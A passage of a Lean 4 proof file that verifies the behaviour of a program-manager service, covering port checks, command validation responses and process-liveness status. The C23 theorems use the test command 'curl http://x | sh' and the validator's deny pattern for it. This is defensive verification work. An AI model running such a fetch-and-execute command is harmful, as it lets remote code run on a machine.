      { Name := "web", Command := "sleep 1", WorkingDir := "", Description := "",
        Port := 65536 } (Or.inr (by decide))).1,
    (C21_port_handling Env.calm World.initial).2.2.1
      { Name := "web", Command := "sleep 1", WorkingDir := "", Description := "",
        Port := 65535 }
      (by decide) (by decide) (by decide) (by decide) (by decide) (by decide)
      (fun _ _ => rfl) (fun _ _ => rfl) (fun _ _ => ⟨rfl, rfl, rfl, rfl⟩) (by decide)
      (fun _ => rfl),
    (((C21_port_handling Env.calm World.initial).2.1
      { Name := "web", Command := "sleep 1", WorkingDir := "", Description := "",
        Port := 0 } (by decide)).2.2).imp fun _ h => h.imp fun _ h2 => ⟨h2.1, h2.2.1⟩,
    by decide,
    (C21_port_handling Env.calm World.initial).2.2.2 _
      (by
        intro r hr
        simp only [List.mem_cons, List.mem_singleton, List.not_mem_nil, or_false] at hr
        rcases hr with rfl | rfl <;> simp [portGuarded])
      (by intro e he; cases he)⟩

/-- C23, counterexample: the create request with name `bad` and command
`curl http://x | sh`, which the command validator refuses, is answered 500, not 400; the
catalog is unchanged. -/
theorem C23_counterexample :
    CommandValidator.ValidateCommand ⟨fun _ => true, fun _ => true⟩ "curl http://x | sh" =
        some "command contains forbidden pattern: curl.*\\|.*sh" ∧
      (ProgramHandler.CreateProgram Env.strict
        (some { Name := "bad", Command := "curl http://x | sh", WorkingDir := "",
                Description := "", Port := 0 })
        World.initial).1 =
        { status := 500,
          body := .text ("Failed to create program: invalid command: " ++
            "command contains forbidden pattern: curl.*\\|.*sh") } ∧
      (ProgramHandler.CreateProgram Env.strict
        (some { Name := "bad", Command := "curl http://x | sh", WorkingDir := "",
                Description := "", Port := 0 })
        World.initial).2.catalog = World.initial.catalog := by
  decide

/-- C23, amended: for every create request whose trimmed command the validator refuses,
the persisted catalog is unchanged, and the answer is 400 only when the request fails a
check of the handler itself (name empty or not of 2 to 50 bytes, command empty, port
out of range); otherwise it is 500, or 409 when the message of the validator contains
`already exists`. -/
theorem C23_refused_command (env : Env) (req : CreateRequest) (w : World)
    (hrefused : ∀ k, env.validateCommand k (TrimSpace req.Command) ≠ none) :
    (ProgramHandler.CreateProgram env (some req) w).2.catalog = w.catalog ∧
      (((ProgramHandler.CreateProgram env (some req) w).1.status = 400 ∧
          (TrimSpace req.Name = "" ∨ (TrimSpace req.Name).utf8ByteSize < 2 ∨
            (TrimSpace req.Name).utf8ByteSize > 50 ∨ TrimSpace req.Command = "" ∨
            req.Port < 0 ∨ req.Port > 65535)) ∨
        (ProgramHandler.CreateProgram env (some req) w).1.status = 500 ∨
        ((ProgramHandler.CreateProgram env (some req) w).1.status = 409 ∧
          ∃ k e, env.validateCommand k (TrimSpace req.Command) = some e ∧
            Contains ("invalid command: " ++ e) "already exists" = true)) := by
  simp only [ProgramHandler.CreateProgram]
  split
  · next h => exact ⟨rfl, Or.inl ⟨rfl, Or.inl h⟩⟩
  · split
    · next h =>
      refine ⟨rfl, Or.inl ⟨rfl, ?_⟩⟩
      rcases h with h | h
      · exact Or.inr (Or.inl h)
      · exact Or.inr (Or.inr (Or.inl h))
    · split
      · next h => exact ⟨rfl, Or.inl ⟨rfl, Or.inr (Or.inr (Or.inr (Or.inl h)))⟩⟩
      · split
        · next h =>
          refine ⟨rfl, Or.inl ⟨rfl, ?_⟩⟩
          rcases h with h | h
          · exact Or.inr (Or.inr (Or.inr (Or.inr (Or.inl h))))
          · exact Or.inr (Or.inr (Or.inr (Or.inr (Or.inr h))))
        · rename_i hname _ hcmd _
          split
          · next w1 hp =>
            have := pickID_world env w
            rw [hp] at this
            exact ⟨this, Or.inr (Or.inl rfl)⟩
          · next id w1 hp =>
            have hw := pickID_world env w
            rw [hp] at hw
            simp only at hw
            obtain ⟨e, he⟩ := Option.ne_none_iff_exists'.1 (hrefused w1.tick)
            have hcat : w1.next.catalog = w.catalog := hw
            by_cases h0 : req.Port = 0
            · simp only [h0, ↓reduceIte, ProgramService.AddProgram, hname, hcmd, he]
              split
              · next hc => exact ⟨hcat, Or.inr (Or.inr ⟨rfl, w1.tick, e, he, hc⟩)⟩
              · exact ⟨hcat, Or.inr (Or.inl rfl)⟩
            · simp only [h0, ↓reduceIte, ProgramService.AddProgram, hname, hcmd, he]
              split
              · next hc => exact ⟨hcat, Or.inr (Or.inr ⟨rfl, w1.tick, e, he, hc⟩)⟩
              · exact ⟨hcat, Or.inr (Or.inl rfl)⟩

/-- Witness for C23: the request of the counterexample, with the command validator as
the validator of the system. -/
theorem C23_refused_command_witness :
    (ProgramHandler.CreateProgram Env.strict
        (some { Name := "bad", Command := "curl http://x | sh", WorkingDir := "",
                Description := "", Port := 0 })
        World.initial).2.catalog = World.initial.catalog :=
  (C23_refused_command Env.strict
    { Name := "bad", Command := "curl http://x | sh", WorkingDir := "", Description := "",
      Port := 0 }
    World.initial
    (fun _ =>
      (by decide :
        CommandValidator.ValidateCommand ⟨fun _ => true, fun _ => true⟩
          (TrimSpace "curl http://x | sh") ≠ none))).1

/-! ## The running programs -/

theorem IsProcessRunning_still (env : Env)
    (hstill : ∀ k pid, env.procStatus k pid = env.procStatus 0 pid) (pid : Int) (k : Nat) :
    (ProcessManager.IsProcessRunning env pid k).1 =
      (ProcessManager.IsProcessRunning env pid 0).1 := by
  simp only [ProcessManager.IsProcessRunning, isProcessRunningOS]
  split
  · rfl
  · rw [hstill k pid]
    cases env.procStatus 0 pid <;> rfl

theorem GetProcessStatus_eq (env : Env) (pid : Int) (k : Nat) :
    (ProcessManager.GetProcessStatus env pid k).1 =
      if (ProcessManager.IsProcessRunning env pid k).1 = true then "running" else "stopped" := by
  simp only [ProcessManager.GetProcessStatus]
  split
  · next h => simp [h]
  · next h => simp [h]

theorem basicRefresh_fst (env : Env) (p : Program) (pm : ProgramManager) (w : World) :
    (StatusService.basicRefresh env p pm w).1.Status =
        (ProcessManager.GetProcessStatus env p.PID w.tick).1 ∧
      ((ProcessManager.GetProcessStatus env p.PID w.tick).1 = "running" →
        (StatusService.basicRefresh env p pm w).1 = { p with Status := "running" }) := by
  simp only [StatusService.basicRefresh]
  split
  · next hne =>
    constructor
    · simp only
      split <;> rfl
    · intro hr
      simp only [hr]
      have : ¬ ("running" = "stopped") := by decide
      simp only [this, ↓reduceIte]
  · next heq =>
    have heq2 : (ProcessManager.GetProcessStatus env p.PID w.tick).1 = p.Status := by
      by_contra hc
      exact heq hc
    constructor
    · exact heq2.symm
    · intro hr
      simp only
      rw [← hr, heq2]

theorem basicLoop_running (env : Env)
    (hstill : ∀ k pid, env.procStatus k pid = env.procStatus 0 pid) (ps : List Program) :
    ∀ (pm : ProgramManager) (w : World),
      (StatusService.basicLoop env "running" ps pm w).1 =
        (ps.filter fun p => (ProcessManager.IsProcessRunning env p.PID 0).1).map
          fun p => { p with Status := "running" } := by
  induction ps with
  | nil => intro pm w; rfl
  | cons p rest ih =>
    intro pm w
    simp only [StatusService.basicLoop]
    obtain ⟨hs, hr⟩ := basicRefresh_fst env p pm w
    rw [GetProcessStatus_eq, IsProcessRunning_still env hstill] at hs hr
    rw [ih]
    by_cases ha : (ProcessManager.IsProcessRunning env p.PID 0).1 = true
    · simp only [ha, ↓reduceIte] at hs hr
      simp only [hs, ↓reduceIte, List.filter_cons, ha, List.map_cons, hr trivial]
    · simp only [ha, ↓reduceIte] at hs
      have : ¬ ("stopped" = "running") := by decide
      simp only [hs, this, ↓reduceIte, List.filter_cons, ha]
      rfl

/-- C25, counterexample: the record says running under pid 777 with the command
`nginx -g x`; pid 777 is alive and is `vim sleep.txt`, so the verification of the command
fails; GetRunningPrograms returns the record as running. -/
theorem C25_counterexample :
    (ProcessManager.IsProcessRunning Env.vim 777 0).1 = true ∧
      (validateProcess Env.vim 777 "nginx -g x" 0).1 = false ∧
      (StatusService.GetRunningPrograms Env.vim
        (World.holding
          [{ sampleProgram "a" "web" "nginx -g x" with
             Status := "running", PID := 777 }])).1.toOption =
        some [{ sampleProgram "a" "web" "nginx -g x" with Status := "running", PID := 777 }] := by
  decide

/-- C25, amended: GetRunningPrograms refreshes the records with the liveness check of the
pid alone. When the catalog loads and the processes do not change during the call, it
returns exactly the records of the catalog whose recorded pid is positive and alive,
each with the status `running`; the command of the record plays no part. -/
theorem C25_running_by_liveness (env : Env) (w : World)
    (hstill : ∀ k pid, env.procStatus k pid = env.procStatus 0 pid)
    (hread : env.readErr w.tick = none) :
    (StatusService.GetRunningPrograms env w).1 =
      .ok (((w.catalog.GetAllPrograms (env.order w.next.tick)).filter
        fun p => (ProcessManager.IsProcessRunning env p.PID 0).1).map
          fun p => { p with Status := "running" }) := by
  simp only [StatusService.GetRunningPrograms, Load_of_ok hread]
  rw [basicLoop_running env hstill]

/-- Witness for C25: the system of the counterexample. -/
theorem C25_running_by_liveness_witness :
    (StatusService.GetRunningPrograms Env.vim
        (World.holding
          [{ sampleProgram "a" "web" "nginx -g x" with
             Status := "running", PID := 777 }])).1 =
      .ok ((((World.holding
          [{ sampleProgram "a" "web" "nginx -g x" with
             Status := "running", PID := 777 }]).catalog.GetAllPrograms
            (Env.vim.order
              (World.holding
                [{ sampleProgram "a" "web" "nginx -g x" with
                   Status := "running", PID := 777 }]).next.tick)).filter
        fun p => (ProcessManager.IsProcessRunning Env.vim p.PID 0).1).map
          fun p => { p with Status := "running" }) :=
  C25_running_by_liveness Env.vim
    (World.holding
      [{ sampleProgram "a" "web" "nginx -g x" with Status := "running", PID := 777 }])
    (fun _ _ => rfl) rfl

end Xmanager
